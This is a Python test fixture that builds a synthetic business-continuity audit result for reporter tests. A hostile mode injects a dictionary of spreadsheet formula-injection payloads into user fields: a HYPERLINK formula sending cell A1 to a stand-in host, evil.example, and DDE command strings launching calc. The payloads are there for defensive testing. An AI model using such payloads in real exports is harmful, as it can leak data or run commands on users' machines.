"""A small, realistic AssessmentResult built by hand, so reporter tests do not need the importer or rules.

Two frameworks, every requirement status, fresh/stale/missing evidence, an attestation, failing
services with their source rows, open and closed corrective actions, contacts and trainees.
``hostile=True`` plants formula strings, control characters, a 10,000-character cell, emoji and
right-to-left text where user data goes.
"""

from __future__ import annotations

from datetime import date, datetime, timedelta

from itscm_audit.catalog import DecidedBy, Relationship
from itscm_audit.model import (
    ActionStatus,
    Attestation,
    AttestationStatus,
    Contact,
    CorrectiveAction,
    DataIssue,
    EvidenceItem,
    Exercise,
    ExerciseResult,
    ExerciseType,
    Finding,
    OrgData,
    Service,
    Severity,
    SourceRef,
    TrainingRecord,
)
from itscm_audit.result import (
    AssessmentResult,
    CheckResult,
    Contribution,
    EntityResult,
    EvidenceState,
    EvidenceStatus,
    FrameworkSummary,
    ObjectiveStatus,
    Outcome,
    RemediationItem,
    RequirementStatus,
    RunInfo,
    Status,
    TableAccount,
)
from itscm_audit.rules.facts import facts_for

AS_OF = date(2026, 9, 30)
BIA = "data/service-inventory-bia.xlsx"
LOG = "data/exercise-log.xlsx"

HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\tx=1+1",
    "cr": "\r=1+2",
    "control": "bell\x07null\x00esc\x1b end",
    "long": "L" * 10_000,
    "emoji": "Data centre 🔥 flood 🌊 recovered ✅",
    "arabic": "خدمة الرواتب",
    "hebrew": "שירות שכר",
}


def _h(n: float) -> timedelta:
    return timedelta(hours=n)


def _src(file: str, sheet: str, row: int, column: str | None = None, value: str | None = None) -> SourceRef:
    return SourceRef(file=file, sheet=sheet, row=row, column=column, value=value)


def make_result(*, hostile: bool = False, n_services: int = 4) -> AssessmentResult:
    hx = HOSTILE if hostile else {}
    names = ["Claims processing", "Payroll", "Policy admin portal", "E-mail"]
    services = [
        Service(id=f"SVC-{i + 1:03d}", name=names[i % 4] if i < 4 else f"Service {i + 1}", tier=1 + i % 3,
                owner=["Marie Tremblay", "Ops Team", "Liam O'Brien", "IT Infra"][i % 4],
                mtpd=_h(72), rto=_h([4, 24, 8, 12][i % 4]), rpo=_h([1, 24, 4, 2][i % 4]),
                personal_data=i % 2 == 0, phi=i == 0, source=_src(BIA, "Services", 5 + i))
        for i in range(n_services)
    ]
    if hostile:
        services[0] = services[0].model_copy(update={"name": hx["formula"], "recovery_strategy": hx["long"]})
        services[1] = services[1].model_copy(update={"name": hx["arabic"], "owner": hx["hebrew"]})
        services[2] = services[2].model_copy(update={"name": hx["emoji"], "owner": hx["plus"]})
    exercises = (
        Exercise(id="EX-2026-01", date=date(2026, 3, 14), type=ExerciseType.FAILOVER,
                 scenario=hx.get("control", "Primary data centre loss"), services=("SVC-001", "SVC-002"),
                 achieved_recovery_time=_h(5.5), achieved_data_loss=_h(0.5), result=ExerciseResult.PARTIAL,
                 report="exercises/EX-2026-01-report.md", source=_src(LOG, "Exercises", 2)),
        Exercise(id="EX-2026-02", date=date(2026, 6, 2), type=ExerciseType.TABLETOP,
                 scenario=hx.get("minus", "Ransomware on file servers"), services=("SVC-003",),
                 achieved_recovery_time=_h(6), result=ExerciseResult.PASSED, source=_src(LOG, "Exercises", 3)),
    )
    findings = (
        Finding(id="F-01", exercise_id="EX-2026-01", description="Failover exceeded the RTO",
                severity="high", raised=date(2026, 3, 15), source=_src(LOG, "Findings", 2)),
    )
    actions = (
        CorrectiveAction(id="CA-01", finding_id="F-01", description=hx.get("at", "Automate DNS cut-over"),
                         owner="Marie Tremblay", opened=date(2026, 3, 20), due=date(2026, 6, 30),
                         status=ActionStatus.OPEN, source=_src(LOG, "Corrective Actions", 2)),
        CorrectiveAction(id="CA-02", finding_id="F-01", description="Update the runbook",
                         owner="Ops Team", opened=date(2026, 3, 20), due=date(2026, 5, 1),
                         status=ActionStatus.CLOSED, closed=date(2026, 4, 28),
                         source=_src(LOG, "Corrective Actions", 3)),
    )
    contacts = (
        Contact(role="Crisis manager", name="Jean-Luc Picard", alternate="Beverly Crusher",
                phone="+1 514 555 0100", email="jl.picard@aurora.example", critical_role=True,
                last_verified=date(2026, 8, 1), source=_src("data/call-tree.xlsx", "Call Tree", 2)),
        Contact(role="IT recovery lead", name="Geordi La Forge", phone="+1 514 555 0101",
                email="geordi@aurora.example", source=_src("data/call-tree.xlsx", "Call Tree", 3)),
    )
    training = (TrainingRecord(person="Deanna Troi", role="BC coordinator", course="BCI Foundation",
                               completed=date(2026, 2, 1), source=_src("data/plans-and-training.xlsx", "Training", 2)),)
    data = OrgData(services=tuple(services), exercises=exercises, findings=findings, corrective_actions=actions,
                   contacts=contacts, training_records=training)

    ev_items = [
        EvidenceItem(path="exercises/EX-2026-01-report.md", sha256="a" * 64, evidence_type="exercise_report",
                     title="Failover exercise report", collected=date(2026, 3, 20), exercises=("EX-2026-01",),
                     source=_src("evidence/manifest.yaml", "manifest", 3)),
        EvidenceItem(path="plans/bcp-v3.pdf", sha256="b" * 64, evidence_type="plan", title="BCP v3",
                     collected=date(2024, 1, 10), objectives=("OBJ-PLAN-APPROVED",),
                     source=_src("evidence/manifest.yaml", "manifest", 9)),
        EvidenceItem(path="backups/restore-test.txt", sha256="c" * 64, evidence_type="restore_test",
                     collected=date(2026, 9, 1), source=_src("evidence/manifest.yaml", "manifest", 15)),
    ]
    evidence = (
        EvidenceStatus(item=ev_items[0], state=EvidenceState.FRESH, expires=date(2027, 3, 20), message="fresh"),
        EvidenceStatus(item=ev_items[1], state=EvidenceState.STALE, expires=date(2025, 1, 10),
                       message="plans/bcp-v3.pdf expired on 2025-01-10"),
        EvidenceStatus(item=ev_items[2], state=EvidenceState.MISSING, message="backups/restore-test.txt is missing"),
    )
    rto_fail = EntityResult(entity="service", entity_id="SVC-001", outcome=Outcome.FAIL,
                            message=f"Achieved 5.5 h against an RTO of 4 h {hx.get('cr', '')}".strip(), metric=5.5,
                            sources=(_src(BIA, "Services", 5, "RTO (hrs)", "4"), _src(LOG, "Exercises", 2)))
    checks = (
        CheckResult(rule_id="bia.rto_defined", title="Every service has an RTO", outcome=Outcome.PASS,
                    summary="4 of 4 in-scope services have an RTO."),
        CheckResult(rule_id="exercise.rto_achieved", title="Exercises meet the RTO", outcome=Outcome.FAIL,
                    summary=hx.get("tab", "1 of 1 technical exercise missed the RTO."),
                    entities=(rto_fail,), evidence=("exercises/EX-2026-01-report.md",)),
        CheckResult(rule_id="plan.approved", title="Plans approved and reviewed", outcome=Outcome.PARTIAL,
                    summary="The BCP review is overdue."),
    )
    attestation = Attestation(target="iso22301:5.1", status=AttestationStatus.MET,
                              statement="Board minutes of 2026-05-12", attested_by="Jean-Luc Picard",
                              date=date(2026, 5, 12), source=_src("attestations.xlsx", "Attestations", 2))
    objectives = (
        ObjectiveStatus(objective_id="OBJ-BIA-TARGETS", title="Recovery targets defined", status=Status.MET,
                        rationale="Every service has an RTO.", rules=("bia.rto_defined",)),
        ObjectiveStatus(objective_id="OBJ-RTO-PROVEN", title="Recovery proven within RTO", status=Status.NOT_MET,
                        rationale=f"Exercises meet the RTO: 1 missed. {hx.get('long', '')}".strip(),
                        rules=("exercise.rto_achieved",), evidence=("exercises/EX-2026-01-report.md",)),
        ObjectiveStatus(objective_id="OBJ-PLAN-APPROVED", title="Plans approved", status=Status.PARTIALLY_MET,
                        rationale="The BCP review is overdue; evidence is stale.", rules=("plan.approved",),
                        evidence=("plans/bcp-v3.pdf",)),
        ObjectiveStatus(objective_id="OBJ-LEADERSHIP", title="Top management commitment", status=Status.MET,
                        rationale="Attested met by Jean-Luc Picard.", attestation=attestation),
    )

    def contrib(obj: ObjectiveStatus, rel: Relationship, strength: int) -> Contribution:
        return Contribution(objective_id=obj.objective_id, relationship=rel, strength=strength,
                            objective_status=obj.status, rationale="crosswalk")

    o_bia, o_rto, o_plan, o_lead = objectives
    requirements = (
        RequirementStatus(framework="iso22301", requirement_id="8.2.2", title="Business impact analysis",
                          status=Status.MET, rationale="Through the crosswalk: OBJ-BIA-TARGETS (equal, strength 9) is met.",
                          decided_by=DecidedBy.DATA, contributions=(contrib(o_bia, Relationship.EQUAL, 9),),
                          rules=("bia.rto_defined",)),
        RequirementStatus(framework="iso22301", requirement_id="8.5", title=hx.get("emoji", "Exercise programme"),
                          status=Status.NOT_MET,
                          rationale=f"Through the crosswalk: OBJ-RTO-PROVEN (subset of, strength 8) is not met. "
                                    f"{hx.get('control', '')}".strip(),
                          decided_by=DecidedBy.DATA, contributions=(contrib(o_rto, Relationship.SUBSET_OF, 8),),
                          rules=("exercise.rto_achieved",), failing=(rto_fail,), evidence=(evidence[0],)),
        RequirementStatus(framework="iso22301", requirement_id="8.4.4", title="Business continuity plans",
                          status=Status.PARTIALLY_MET, rationale="OBJ-PLAN-APPROVED is partially met.",
                          decided_by=DecidedBy.DATA, contributions=(contrib(o_plan, Relationship.INTERSECTS_WITH, 6),),
                          rules=("plan.approved",), evidence=(evidence[1],)),
        RequirementStatus(framework="iso22301", requirement_id="5.1", title="Leadership and commitment",
                          status=Status.MET, rationale="Decided by attestation: Jean-Luc Picard states it is met.",
                          decided_by=DecidedBy.ATTESTATION, contributions=(contrib(o_lead, Relationship.EQUAL, 10),),
                          attestation=attestation),
        RequirementStatus(framework="nist-800-53-cp", requirement_id="CP-4", title="Contingency plan testing",
                          status=Status.NOT_MET, rationale="OBJ-RTO-PROVEN is not met.", decided_by=DecidedBy.DATA,
                          contributions=(contrib(o_rto, Relationship.EQUAL, 9),), rules=("exercise.rto_achieved",),
                          failing=(rto_fail,), evidence=(evidence[0],)),
        RequirementStatus(framework="nist-800-53-cp", requirement_id="CP-2", title="Contingency plan",
                          status=Status.PARTIALLY_MET, rationale=hx.get("arabic", "OBJ-PLAN-APPROVED is partially met."),
                          decided_by=DecidedBy.DATA, contributions=(contrib(o_plan, Relationship.SUBSET_OF, 7),),
                          rules=("plan.approved",), evidence=(evidence[1],)),
        RequirementStatus(framework="nist-800-53-cp", requirement_id="CP-10(2)", title="Transaction recovery",
                          status=Status.NOT_ASSESSED, rationale="No data yet for the objectives behind it.",
                          decided_by=DecidedBy.DATA),
        RequirementStatus(framework="nist-800-53-cp", requirement_id="CP-8", title="Telecommunications services",
                          status=Status.NOT_APPLICABLE,
                          rationale="Declared not applicable by Jean-Luc Picard: no dedicated telecoms in scope.",
                          decided_by=DecidedBy.ATTESTATION),
    )
    frameworks = (
        FrameworkSummary(framework="iso22301", title="ISO 22301:2019", version="2019",
                         counts={"met": 2, "partially_met": 1, "not_met": 1, "not_assessed": 0, "not_applicable": 0},
                         score=62.5),
        FrameworkSummary(framework="nist-800-53-cp", title="NIST SP 800-53 Rev. 5 CP family", version="5.1.1",
                         counts={"met": 0, "partially_met": 1, "not_met": 1, "not_assessed": 1, "not_applicable": 1},
                         score=25.0),
    )
    remediation = (
        RemediationItem(rank=1, objective_id="OBJ-RTO-PROVEN", title="Recovery proven within RTO",
                        action="Fix: 1 of 1 technical exercise missed the RTO.",
                        requirements=("iso22301:8.5", "nist-800-53-cp:CP-4"), weight=3.0, failing_entities=1),
        RemediationItem(rank=2, objective_id="OBJ-PLAN-APPROVED", title="Plans approved",
                        action="Fix: The BCP review is overdue.",
                        requirements=("iso22301:8.4.4", "nist-800-53-cp:CP-2"), weight=2.0, failing_entities=0),
    )
    issues = (
        DataIssue(code="duration.unparsed", message=hx.get("control", "RTO 'ASAP' is not a duration"),
                  severity=Severity.WARNING, source=_src(BIA, "Services", 9, "RTO (hrs)", hx.get("formula", "ASAP"))),
        DataIssue(code="date.invalid", message="Date 31/02/2026 does not exist", severity=Severity.ERROR,
                  source=_src(LOG, "Exercises", 7, "Date", "31/02/2026")),
    )
    accounts = (TableAccount(file=BIA, sheet="Services", entity="service", rows_read=n_services + 1,
                             imported=n_services, rejected=1, skipped=0),)
    run = RunInfo(tool_version="0.1.0", run_id="20260930-abc123", label="2026Q3", as_of=AS_OF,
                  organisation=hx.get("hebrew", "Aurora Mutual Insurance"), scope="IT services of the head office",
                  frameworks=("iso22301", "nist-800-53-cp"), catalogue_versions={"iso22301": "2019", "nist-800-53-cp": "5.1.1"},
                  input_digests={BIA: "1" * 64, LOG: "2" * 64}, policy={"exercise_interval_days": 365})
    facts = facts_for(data, AS_OF, evidence=evidence)
    return AssessmentResult(run=run, facts=facts, data=data, issues=issues, accounts=accounts, checks=checks, evidence=evidence,
                            attestations=(attestation,), objectives=objectives, requirements=requirements,
                            frameworks=frameworks, remediation=remediation)


def stamp() -> datetime:
    """A fixed instant for tests that need one."""
    return datetime(2026, 9, 30, 12, 0, 0)
